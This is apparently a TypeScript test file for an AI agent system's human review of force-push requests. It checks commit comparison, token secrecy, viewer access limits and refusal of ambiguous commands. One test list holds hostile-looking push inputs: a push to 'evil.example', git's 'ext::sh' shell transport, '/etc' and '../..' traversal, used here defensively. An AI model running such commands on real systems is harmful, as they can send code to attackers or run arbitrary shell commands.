/** What an approval of a force-push says about its remote: a real repository over real HTTP, read in the real sandbox. */
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { guarded } from "@/agents/guard/guard";
import { type GitServer, startGitServer } from "@/lib/git/testing/git-server";
import { call, endTask } from "@/tests/agents/replies";
import { tester, trialsOfThisFile, until } from "@/tests/agents/scenario";
import type { Trial } from "@/tests/agents/trial";
import { changeAgent } from "@/tests/agents/world-tool";

const TOKEN = "ghp_a-token-that-nobody-may-see";
const start = trialsOfThisFile();

let folder: string;
let server: GitServer;
let url: string;

function git(author: string, ...args: string[]): void {
  const who = ["-c", `user.name=${author}`, "-c", `user.email=${author}@example.org`];
  execFileSync("git", ["-C", join(folder, "source"), ...who, ...args], { stdio: "ignore" });
}

function commit(author: string, subject: string): void {
  writeFileSync(join(folder, "source", "a.txt"), `${subject}\n`);
  git(author, "add", "-A");
  git(author, "commit", "-q", "-m", subject);
}

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), "banyan-force-push-"));
  mkdirSync(join(folder, "source"));
  git("mara", "init", "-q", "-b", "main");
  commit("mara", "First");
  mkdirSync(join(folder, "served"));
  execFileSync("git", ["clone", "-q", "--bare", join(folder, "source"), join(folder, "served", "shop.git")]);
  git("mara", "remote", "add", "origin", join(folder, "served", "shop.git"));
  server = await startGitServer(join(folder, "served"), TOKEN);
  url = `http://${server.host}/shop.git`;
});
afterEach(async () => {
  await server.close();
  rmSync(folder, { recursive: true, force: true });
});

const COMMIT =
  "git -c user.name=coder -c user.email=c@example.org commit -q --allow-empty -m 'Release notes for 2.4' && git log --oneline";

/** Starts a tree in a copy of the repository that commits something, and then asks for the command. */
async function asking(command: string, more: { allowed?: boolean; network?: string[]; later?: string[] } = {}) {
  const { allowed = true, network, later = [] } = more;
  const push = call("use_terminal", { command, ...(network && { network }) });
  const others = later.map((command) => call("use_terminal", { command }));
  const trial = await start(
    { root: [call("use_terminal", { command: COMMIT }), push, ...others, endTask("done")] },
    { env: { BANYAN_PRIVATE_HOSTS: server.host, ...(allowed && { BANYAN_ALLOWED_HOSTS: server.host }) } },
  );
  const { commands } = trial.runtime.application;
  await commands.setSecret({ id: `git/${server.host.replace(":", "_")}`, value: TOKEN }, tester);
  await changeAgent(trial, "worker", { tools: ["use_terminal"] });
  await commands.setToolPolicy({ id: "use_terminal", policy: "ask" }, tester);
  await trial.submit({ task: "root", agent: "worker", repository: { url, branch: "main" } });
  await commands.decide({ id: (await waiting(trial, "Release notes")).id, decision: "approved", reason: "" }, tester);
  const { id } = await waiting(trial, command);
  return { trial, id };
}

function waiting(trial: Trial, words: string) {
  return until(async () => {
    const { items } = await trial.runtime.application.queries.listReviews({ open: true });
    return items.find(({ evidence }) => evidence?.includes(words)) ?? false;
  }, `${words} waits`);
}

async function compared(trial: Trial, id: string) {
  const { found, problem } = await trial.runtime.application.queries.comparePush(id);
  if (!found) throw new Error(problem ?? "no reason");
  return found;
}
const refusalOf = (trial: Trial, id: string) =>
  compared(trial, id).then(
    () => "compared",
    (error: unknown) => (error instanceof Error ? error.message : String(error)),
  );

test("commits that only the remote has are found, with their authors; so is what it gets, and whether it can be reached", async () => {
  const { trial, id } = await asking("git push --force origin main", { network: [server.host] });
  commit("jonas", "Log the webhook's answer");
  commit("jonas", "Retry the webhook after a 502");
  git("jonas", "push", "-q", "origin", "main");
  const found = await compared(trial, id);
  expect(found).toMatchObject({ url, host: server.host, branch: "main", is_new: false, reaches: true });
  expect(found.loses.total).toBe(2);
  expect(found.loses.commits.map(({ subject, author }) => [subject, author])).toEqual([
    ["Retry the webhook after a 502", "jonas"],
    ["Log the webhook's answer", "jonas"],
  ]);
  expect(found.gains).toMatchObject({ total: 1, commits: [{ subject: "Release notes for 2.4", author: "coder" }] });
  expect(JSON.stringify(found)).not.toContain(TOKEN);
  // Pages that look at once share one fetch.
  const fetches = server.requests.length;
  await Promise.all([compared(trial, id), compared(trial, id)]);
  expect(server.requests).toHaveLength(fetches);

  const { queries } = guarded(trial.runtime.application, { ...tester, role: "viewer" });
  await expect(queries.comparePush(id)).rejects.toThrow("viewer");
  await trial.runtime.application.commands.decide({ id, decision: "rejected", reason: "" }, tester);
  expect(await refusalOf(trial, id)).toBe("The item is decided, so nothing is compared any more.");
});

test("a new branch loses nothing, and a call without network reaches no remote", async () => {
  const { trial, id } = await asking("git push -f origin HEAD:refs/heads/notes");
  expect(await compared(trial, id)).toMatchObject({
    branch: "notes",
    is_new: true,
    reaches: false,
    loses: { total: 0, commits: [] },
    gains: { total: 2 },
  });
});

const UNTOLD: readonly [command: string, sentence: string][] = [
  ["git push --force --mirror origin", "The command leaves open what it pushes, so it was not compared."],
  ["git push --force elsewhere main", 'The remote "elsewhere" has no address here.'],
  ["git push --force origin nobody", 'There is no commit "nobody" here.'],
  ["cd ../.. && git push --force origin main", 'The path "../.." contains ".."'],
  ["git push --force https://evil.example/shop.git main", "Banyan may not fetch from evil.example without asking"],
  ["git push --force /etc main", 'The remote "/etc" has no address here.'],
  ["git push --force ext::sh main", 'The remote "ext::sh" has no address here.'],
];

test("nothing is said, and nothing asked of the remote, where the command leaves something open", async () => {
  const commands = UNTOLD.map(([command]) => command);
  const { trial } = await asking(commands[0] ?? "", { later: commands.slice(1) });
  const before = server.requests.length;
  for (const [command, sentence] of UNTOLD) {
    const { id } = await waiting(trial, command);
    expect(await refusalOf(trial, id)).toContain(sentence);
    await trial.runtime.application.commands.decide({ id, decision: "rejected", reason: "" }, tester);
  }
  expect(server.requests).toHaveLength(before);
});

test("G5: an address that the agent writes into its repository gets no token, and no request when its host is not allowed", async () => {
  const { trial, id } = await asking("git push --force origin main", { allowed: false });
  const before = server.requests.length;
  expect(await refusalOf(trial, id)).toBe(
    `Banyan may not fetch from ${server.host} without asking, so it did not look at the remote.`,
  );
  expect(server.requests).toHaveLength(before);
});
